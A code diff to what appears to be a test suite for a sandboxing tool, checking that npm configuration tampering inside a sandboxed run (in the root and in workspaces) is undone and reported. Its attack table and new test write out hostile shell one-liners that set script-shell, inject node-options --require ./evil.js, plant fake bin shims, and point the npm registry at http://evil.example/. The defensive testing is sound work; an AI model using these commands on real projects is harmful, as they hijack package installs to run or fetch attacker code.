@@ -9,6 +9,7 @@ import { type LaidOut, type Layout, layOut } from '../../trials/planting/layouts
 import { spread } from '../support/campaign.js'
 import { needing } from '../support/needs.js'
 import { tempDir } from '../support/temp-dir.js'
+import { SANDBOXES } from '../escapes/stage.js'
 
 const NOBODY = 65534
 const users = spread([
@@ -93,6 +94,7 @@ const ATTACKS: Record<string, string> = {
   'script-shell': 'echo "script-shell=./evil.sh" > .npmrc',
   'a setting in another spelling': `printf '%s\\n' '"Node_Options" = --require ./evil.js' 'userconfig=./x' '\${X}call=evil' >> .npmrc`,
   'names that npm cuts': `printf '%s\\n' 'node-options;x=--require ./evil.js' 'node-options#y=--require ./evil.js' "'\\"node-options\\"'=--require ./evil.js" >> .npmrc`,
+  'where code is fetched from': 'printf "%s\\n" @x:registry=http://evil.example/ registry=http://evil.example/ >> .npmrc',
   'a section around what was there': `printf '[x]\\n%s' "$(cat .npmrc)" > .npmrc`,
   'bin of the manifest': `printf '{"name":"project","bin":{"hermes":"evil.js"}}' > package.json`,
   'a name and bin of the manifest': `printf '{"name":"@x/hermes","bin":"evil.js"}' > package.json`,
@@ -168,6 +170,31 @@ describe.skipIf(process.platform === 'win32').each(users)('the next start, $name
       expect.arrayContaining(['registry=https://registry.example/', 'script-shell=/bin/sh', 'fund=false']),
     )
     expect(git(place, 'show', 'HEAD:.npmrc')).not.toContain('evil')
+  })
+
+  for (const [sandbox, needs] of SANDBOXES) needing(...needs).it(`in ${sandbox}: also in workspaces, between them and the root, and in one that the run made`, () => {
+    const place = laidOut('project')
+    writeFileSync(join(place.project, 'package.json'), '{"name": "project", "workspaces": ["./packages/*/"]}')
+    mkdirSync(join(place.project, 'packages', 'app', 'src'), { recursive: true })
+    const app = join(place.project, 'packages', 'app')
+    writeFileSync(join(app, 'package.json'), '{"name": "app", "bin": {"other": "x"}}')
+    const plant = (...directories: string[]) => shell(directories.map(name => (
+      `mkdir -p ${name}/node_modules/.bin; printf '#!/bin/sh\\necho evil\\n' > ${name}/node_modules/.bin/hermes; chmod +x ${name}/node_modules/.bin/hermes`
+    )).join('; '))
+    const { warnings } = apply(place, [
+      plant('packages/app', 'packages', 'packages/new'),
+      shell(`echo script-shell=./evil > packages/app/.npmrc; echo '{"name": "app", "bin": {"hermes": "x"}}' > packages/app/package.json`),
+      shell(`echo registry=http://evil.example/ > packages/new/.npmrc; echo '{"name": "hermes", "bin": "evil.js"}' > packages/new/package.json`),
+    ], uid, '--sandbox', sandbox)
+    const told = warnings?.join('\n')
+    for (const name of ['packages', 'packages/app', 'packages/new']) {
+      expect(existsSync(join(place.project, name, 'node_modules', '.bin', 'hermes'))).toBe(false)
+      expect(told).toContain(`${name}/node_modules/.bin/hermes`)
+    }
+    expect([existsSync(join(app, '.npmrc')), existsSync(join(place.project, 'packages/new/.npmrc'))]).toEqual([false, false])
+    expect(readFileSync(join(app, 'package.json'), 'utf8')).toContain('"other"')
+    expect(readFileSync(join(place.project, 'packages/new/package.json'), 'utf8')).not.toContain('bin')
+    for (const name of ['app', 'app/src', 'new']) expect(npx({ ...place, project: join(place.project, 'packages', name) })).toMatch(/^\d+\.\d+/)
   })
 
   needing('bubblewrap').it('in the sandbox: what a command can change is put back, hermes itself it cannot', () => {
